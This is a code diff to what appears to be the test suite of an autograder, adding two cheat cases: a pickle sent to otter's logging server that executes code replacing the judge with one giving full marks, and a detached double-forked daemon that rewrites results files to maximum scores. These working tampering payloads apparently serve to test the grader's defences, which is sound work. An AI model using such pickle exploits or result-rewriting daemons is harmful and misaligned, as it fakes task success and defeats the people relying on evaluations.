@@ -93,6 +93,48 @@ def rewrite():
             pass
 atexit.register(rewrite)
 """
+# send otter's logging server (in the process that holds the judge) a pickle that replaces
+# the judge by one that gives full marks
+LOGGING_PICKLE = """\
+import pickle, socket, struct
+class FullMarks:
+    def __reduce__(self):
+        return (exec, ("import sys\\n"
+                       "j = sys.modules['judge']\\n"
+                       "j.judge = lambda a, s, d: {q: j.Verdict(p, p, 'passed') "
+                       "for q, p in j.POINTS[a].items()}\\n", {}))
+try:
+    import otter.logging
+    for handler in otter.logging._handlers:
+        if hasattr(handler, 'port'):
+            data = pickle.dumps(FullMarks())
+            with socket.create_connection((handler.host, handler.port)) as connection:
+                connection.sendall(struct.pack('>L', len(data)) + data)
+            print('sent to port', handler.port)
+except Exception as error:
+    print('no otter logging server here:', error)
+"""
+# a detached daemon (double fork, setsid) that gives full marks in every results file it
+# finds, for a minute, after otter wrote it
+DAEMON_REWRITES_RESULTS = """\
+import glob, json, os, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        end = time.monotonic() + 60
+        while time.monotonic() < end:
+            for path in glob.glob('../results/*.json'):
+                try:
+                    data = json.load(open(path))
+                    for test in data.get('tests', []):
+                        test['score'] = test.get('max_score', test.get('score'))
+                    data['score'] = sum(t.get('score') or 0 for t in data.get('tests', []))
+                    json.dump(data, open(path, 'w'))
+                except Exception:
+                    pass
+            time.sleep(0.01)
+    os._exit(0)
+"""
 # lie from NumPy's comparisons, but only to graded checks (functions named test_*)
 PATCH_NUMPY = """\
 import sys
@@ -202,6 +244,8 @@ CHEATS = {
     "cheat-rewrites-tests",
     "cheat-wraps-checker",
     "cheat-pickle-and-atexit",
+    "cheat-logging-pickle",
+    "cheat-daemon-rewrites-results",
     "cheat-patches-numpy-in-tests",
     "cheat-reads-hidden-checks",
     "cheat-lying-eq-int",
@@ -475,6 +519,18 @@ CASES: dict[str, tuple] = {
         "reinitialization",
         {"blank": True},
         [(-1, PICKLE_AND_ATEXIT)],
+        ("graded", ALL_REINIT),
+    ),
+    "cheat-logging-pickle": (
+        "reinitialization",
+        {"blank": True},
+        [(-1, LOGGING_PICKLE)],
+        ("graded", ALL_REINIT),
+    ),
+    "cheat-daemon-rewrites-results": (
+        "reinitialization",
+        {"blank": True},
+        [(-1, DAEMON_REWRITES_RESULTS)],
         ("graded", ALL_REINIT),
     ),
     "cheat-patches-numpy-in-tests": (
